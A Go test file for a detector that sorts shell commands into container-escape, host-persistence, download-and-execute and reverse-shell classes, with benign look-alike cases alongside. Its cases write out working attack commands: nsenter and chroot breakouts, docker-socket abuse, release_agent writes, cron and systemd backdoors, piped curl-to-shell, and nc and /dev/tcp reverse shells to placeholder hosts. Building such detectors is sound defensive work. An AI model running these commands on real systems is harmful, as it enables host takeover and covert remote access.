package cmdline

import "testing"

func TestHostEscape(t *testing.T) {
	he := []Class{HostEscape}
	runCases(t, []tc{
		{name: "nsenter all namespaces", argv: []string{"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash"}, want: he, detail: "host PID 1"},
		{name: "nsenter long", argv: []string{"nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid"}, want: he},
		{name: "nsenter --target=1", argv: []string{"nsenter", "--target=1", "--all", "sh"}, want: he},
		{name: "nsenter attached", script: "nsenter -t1 -a sh -c id", want: he},
		{name: "nsenter combined", script: "nsenter -mutnip -t 1 bash", want: he},
		{name: "nsenter proc ns", script: "nsenter --mount=/proc/1/ns/mnt -- /bin/sh", want: he},
		{name: "nsenter net only", script: "nsenter -t 1 -n ip addr", want: he},
		{name: "chroot host", argv: []string{"chroot", "/host"}, want: he, detail: "/host"},
		{name: "chroot host bash", script: "chroot /host /bin/bash", want: he},
		{name: "chroot rootfs", script: "chroot /rootfs sh -c 'id'", want: he},
		{name: "chroot node", script: "chroot /node", want: he},
		{name: "chroot proc 1 root", script: "chroot /proc/1/root /bin/sh", want: he},
		{name: "chroot with userspec", script: "chroot --userspec=0:0 /host/ /bin/sh", want: he},
		{name: "docker socket run", script: "docker -H unix:///var/run/docker.sock run -v /:/h --privileged alpine chroot /h", want: he},
		{name: "DOCKER_HOST exec", script: "DOCKER_HOST=unix:///host/run/docker.sock docker exec -it kube-apiserver sh", want: he},
		{name: "docker --host create", script: "docker --host unix:///x/docker.sock create --privileged alpine", want: he},
		{name: "privileged docker run host pid", script: "docker run --rm --privileged --pid=host alpine nsenter -t 1 -m sh", want: he},
		{name: "docker run host root", script: "docker run -v /:/host --rm alpine chroot /host sh", want: he},
		{name: "nsenter then download", script: "nsenter --target 1 --mount --uts --ipc --net --pid -- bash -c 'curl -s http://x/a|sh'", want: []Class{HostEscape, DownloadExecute}},
		{name: "kubectl run host pod", script: `kubectl run x --restart=Never -it --image alpine --overrides='{"spec":{"hostPID": true,"containers":[{"name":"x","image":"alpine","securityContext":{"privileged":true}}]}}' -- nsenter -t 1 -m sh`, want: he},
		{name: "kubectl debug node", script: "kubectl debug node/worker-1 -it --image=busybox", want: he},
		{name: "crictl exec", script: "crictl exec -it abc123 sh", want: he},
		{name: "crictl with endpoint", script: "crictl --runtime-endpoint unix:///run/containerd/containerd.sock runp pod.json", want: he},
		{name: "ctr run", script: "ctr -n k8s.io run --rm --privileged docker.io/library/alpine:latest x sh", want: he},
		{name: "ctr task exec", script: "ctr -n k8s.io task exec --exec-id x abc sh", want: he},
		{name: "curl docker API create", script: `curl --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' -d '{"Image":"alpine"}' http://localhost/containers/create`, want: he},
		{name: "mount host disk", script: "mkdir /mnt/h && mount /dev/sda1 /mnt/h", want: he},
		{name: "mount nvme", script: "mount /dev/nvme0n1p1 /x", want: he},
		{name: "debugfs", script: "debugfs -w /dev/sda1", want: he},
		{name: "core_pattern", script: `echo '|/tmp/x' > /proc/sys/kernel/core_pattern`, want: he},
		{name: "release_agent", script: "echo /tmp/cmd > /tmp/cgrp/release_agent", want: he},
		{name: "tee release_agent", script: "echo /x | tee /sys/fs/cgroup/rdma/release_agent", want: he},

		// Benign look-alikes.
		{name: "nsenter other process", script: "nsenter -t $(pidof app) -n ip a"},
		{name: "chroot build root", script: "chroot /buildroot make install"},
		{name: "docker build", script: "docker build -t app . && docker push app"},
		{name: "docker ps over socket", script: "docker -H unix:///var/run/docker.sock ps"},
		{name: "crictl ps", script: "crictl ps -a"},
		{name: "crictl images", script: "crictl images"},
		{name: "mount tmpfs", script: "mount -t tmpfs tmpfs /tmp/x"},
		{name: "mount by label", script: "mount /data"},
		{name: "read core_pattern", script: "cat /proc/sys/kernel/core_pattern"},
		{name: "docker API get", script: "curl --unix-socket /var/run/docker.sock http://localhost/containers/json"},
		{name: "kubectl run plain", script: "kubectl run tmp --rm -i --image=busybox --restart=Never -- wget -qO- http://web"},
		{name: "cat host file", script: "cat /host/etc/os-release"},
	})
}

func TestHostPersistence(t *testing.T) {
	hp := []Class{HostPersistence}
	both := []Class{HostEscape, HostPersistence}
	runCases(t, []tc{
		{name: "host crontab", script: "echo '* * * * * root /tmp/x' >> /host/etc/crontab", want: hp, detail: "host cron file"},
		{name: "host crontab entry analysed", script: "echo '* * * * * root curl -s http://x/y|sh' >> /host/etc/crontab", want: []Class{HostPersistence, DownloadExecute}, detail: "in a command scheduled through /host/etc/crontab"},
		{name: "container cron entry analysed", script: `echo "*/5 * * * * root wget -qO- http://x/y | sh" > /etc/cron.d/update`, want: []Class{DownloadExecute}},
		{name: "user crontab entry", script: "echo '@reboot nc -e /bin/sh 1.2.3.4 4444' > /var/spool/cron/crontabs/root", want: []Class{HostPersistence, ReverseShell}},
		{name: "systemd unit analysed", script: "cat > /etc/systemd/system/x.service <<EOF\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'\nEOF\n", want: []Class{HostPersistence, ReverseShell}},
		{name: "host cron.d copy", script: "cp /tmp/x /host/etc/cron.d/x", want: hp},
		{name: "host cron spool", script: "echo '* * * * * /tmp/x' > /host/var/spool/cron/crontabs/root", want: hp},
		{name: "cron spool", script: "echo '* * * * * /tmp/x' >> /var/spool/cron/root", want: hp},
		{name: "authorized_keys tee", script: "echo ssh-rsa AAAAB3Nza x@y | tee -a /root/.ssh/authorized_keys", want: hp},
		{name: "host authorized_keys", script: "echo ssh-rsa AAAAB3Nza x@y >> /host/root/.ssh/authorized_keys", want: hp},
		{name: "home authorized_keys", script: "cat /tmp/k >> ~/.ssh/authorized_keys", want: hp},
		{name: "systemd unit heredoc", script: "cat > /etc/systemd/system/evil.service <<EOF\n[Service]\nExecStart=/tmp/x\nEOF\n", want: hp},
		{name: "host systemd unit", script: "cp x.service /host/etc/systemd/system/", want: hp},
		{name: "rc.local", script: "echo /tmp/x >> /etc/rc.local", want: hp},
		{name: "ld.so.preload", script: "echo /tmp/x.so > /etc/ld.so.preload", want: hp},
		{name: "download into host cron", script: "curl -o /host/etc/cron.d/x http://x/y", want: hp},
		{name: "static pod", script: "cp /tmp/pod.yaml /host/etc/kubernetes/manifests/", want: hp},
		{name: "sed host crontab", script: `sed -i '$a * * * * * root /tmp/x' /host/etc/crontab`, want: hp},
		{name: "dd host crontab", script: "dd if=/tmp/c of=/rootfs/etc/crontab", want: hp},
		{name: "host bashrc", script: "echo 'curl x|sh' >> /host/root/.bashrc", want: []Class{HostPersistence, DownloadExecute}},
		{name: "host binary", script: "cp /tmp/x /host/usr/local/bin/kubelet-helper", want: hp},
		{name: "chroot crontab write", script: `chroot /host bash -c "echo '* * * * * root /tmp/x' >> /etc/crontab"`, want: both},
		{name: "chroot crontab", script: "chroot /host crontab /tmp/cron", want: both},
		{name: "piped crontab", script: "echo '* * * * * /tmp/x' | chroot /host crontab -", want: both},
		{name: "nsenter systemctl enable", script: "nsenter -t 1 -m -- systemctl enable evil.service", want: both},
		{name: "nsenter useradd", script: "nsenter --target 1 --mount --uts --ipc --net --pid -- useradd -m -G sudo backdoor", want: both},
		{name: "host mount option", script: "echo '* * * * * /tmp/x' > /cron/root", opts: &Options{HostMounts: map[string]string{"/cron": "/var/spool/cron"}}, want: hp},

		// Benign look-alikes.
		{name: "container cron.d", script: `echo "* * * * * /backup.sh" > /etc/cron.d/backup && crond -f`},
		{name: "container cron.d with curl", script: `printf '0 3 * * * root curl -fsS http://backup-svc/trigger\n' > /etc/cron.d/backup && cron -f`},
		{name: "container crontab", script: "crontab /config/crontab && crond -f -l 8"},
		{name: "read authorized_keys", script: "cat /root/.ssh/authorized_keys"},
		{name: "read host crontab", script: "cat /host/etc/crontab"},
		{name: "private key copy", script: "mkdir -p /root/.ssh && cp /secrets/id_rsa /root/.ssh/id_rsa && chmod 600 /root/.ssh/id_rsa"},
		{name: "systemctl status", script: "systemctl status nginx"},
		{name: "rc.local lookalike", script: "echo x > /tmp/rc.local"},
		{name: "read unit", script: "grep ExecStart /etc/systemd/system/a.service"},
		{name: "host log read", script: "tail -n 100 /host/var/log/syslog > /tmp/log"},
		{name: "write to host tmp", script: "echo hi > /host/tmp/marker"},
	})
}
